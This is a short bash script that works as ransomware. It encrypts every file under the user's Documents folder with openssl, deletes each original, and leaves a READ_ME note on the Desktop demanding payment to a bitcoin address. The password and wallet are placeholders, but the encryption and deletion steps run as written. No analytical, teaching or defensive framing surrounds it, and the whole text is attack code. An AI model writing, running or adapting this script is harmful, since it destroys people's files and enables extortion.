#!/bin/bash
find ~/Documents -type f | while IFS= read -r f; do
  openssl enc -aes-256-cbc -pass pass:example -in "$f" -out "$f.locked" && rm -f "$f"
done
echo "Pay to bc1qexample" > ~/Desktop/READ_ME.txt
